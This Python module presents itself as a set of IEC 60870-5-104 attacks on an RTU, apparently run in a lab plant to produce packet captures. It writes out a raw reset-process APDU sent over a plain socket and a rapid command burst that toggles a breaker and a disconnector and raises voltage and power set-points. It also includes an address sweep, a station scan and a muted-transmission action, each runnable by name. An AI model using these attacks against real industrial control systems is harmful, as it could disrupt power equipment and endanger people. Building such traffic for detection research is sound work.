"""IEC 60870-5-104 attacks on rtu-line, as a second controlling station on lib60870 (c104).

The library cannot send the reset of the process, so that one APDU is written on a plain socket.
"""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Callable

import c104

from pcaps.plant import hosts, iec104_device, line_master

START_TRANSFER = b"\x68\x04\x07\x00\x00\x00"
RESET_PROCESS = b"\x68\x0e\x00\x00\x00\x00\x69\x01\x06\x00" + hosts.IEC104_STATION.to_bytes(2, "little") + b"\0\0\0\x01"
BURST_ROUNDS, BURST_EVERY_SECONDS = 16, 0.06
SWEPT_OBJECTS, SWEEP_EVERY_SECONDS = range(1, 61), 0.1
SCANNED_STATIONS, SCAN_EVERY_SECONDS = range(1, 21), 0.3
LOOK_SECONDS, SILENT_SECONDS = 2.0, 8.0


def reset_process() -> None:
    """Look at everything the station has, then reset its process."""
    with line_master.connected() as link:
        link.interrogation(hosts.IEC104_STATION)
        time.sleep(LOOK_SECONDS)
    with socket.create_connection((hosts.RTU_LINE.ip, hosts.IEC104_PORT), timeout=2) as plain:
        plain.sendall(START_TRANSFER)
        plain.recv(260)
        plain.sendall(RESET_PROCESS)
        while plain.recv(260):
            pass


def command_burst() -> None:
    """Switch breaker lamp and disconnector to and fro and push the set-points up, dozens of orders in seconds."""
    kinds = c104.Type
    with line_master.connected() as link:
        for number in range(BURST_ROUNDS):
            closed = number % 2 == 0
            for address, kind, value in (
                (iec104_device.LAMP_COMMAND, kinds.C_SC_NA_1, closed),
                (iec104_device.DISCONNECTOR_COMMAND, kinds.C_DC_NA_1, c104.Double.ON if closed else c104.Double.OFF),
                (iec104_device.VOLTAGE_TARGET, kinds.C_SE_NC_1, 110.0 + 5 * number),
                (iec104_device.POWER_TARGET, kinds.C_SE_NB_1, c104.Int16(5000 + 1000 * number)),
            ):
                point = line_master.point(link, address, kind)
                point.value = value
                point.transmit(c104.Cot.ACTIVATION)
                time.sleep(BURST_EVERY_SECONDS)


def object_sweep() -> None:
    """Read one information object address after the other; the station has none of them."""
    with line_master.connected() as link:
        for address in SWEPT_OBJECTS:
            line_master.point(link, address, c104.Type.M_ME_NC_1).read()
            time.sleep(SWEEP_EVERY_SECONDS)


def stop_transmission() -> None:
    """Start the data transfer, look around, and stop it again; stay connected."""
    with line_master.connected() as link:
        link.interrogation(hosts.IEC104_STATION)
        time.sleep(LOOK_SECONDS)
        link.mute()
        time.sleep(SILENT_SECONDS)


def address_scan() -> None:
    """Ask twenty common addresses for everything; there is a station behind none of them."""
    with line_master.connected() as link:
        for address in SCANNED_STATIONS:
            link.interrogation(address)
            time.sleep(SCAN_EVERY_SECONDS)


ACTIONS: dict[str, Callable[[], None]] = {
    action.__name__: action for action in (reset_process, command_burst, object_sweep, stop_transmission, address_scan)
}


if __name__ == "__main__":
    ACTIONS[sys.argv[1]]()
